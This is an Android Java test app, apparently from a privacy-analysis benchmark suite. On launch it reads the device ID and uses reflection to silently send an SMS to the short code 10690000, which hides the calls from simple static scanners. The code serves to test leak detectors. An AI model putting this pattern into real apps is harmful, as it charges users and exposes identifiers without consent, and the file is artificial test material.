package cn.privlens.suite.sender_looked_up_constant;

import android.app.Activity;
import android.app.PendingIntent;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String 编号 = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        try {
            Class<?> type = Class.forName("android.telephony.SmsManager");
            Object sender = type.getMethod("getDefault").invoke(null);
            Method send = type.getMethod("sendTextMessage", String.class, String.class, String.class, PendingIntent.class, PendingIntent.class);
            Class.forName("android.util.Log").getMethod("isLoggable", String.class, int.class).invoke(null, 编号, 3);
            send.invoke(sender, "10690000", null, "好", null, null);
        } catch (ReflectiveOperationException e) {
            setTitle("𠮷");
        }
    }
}
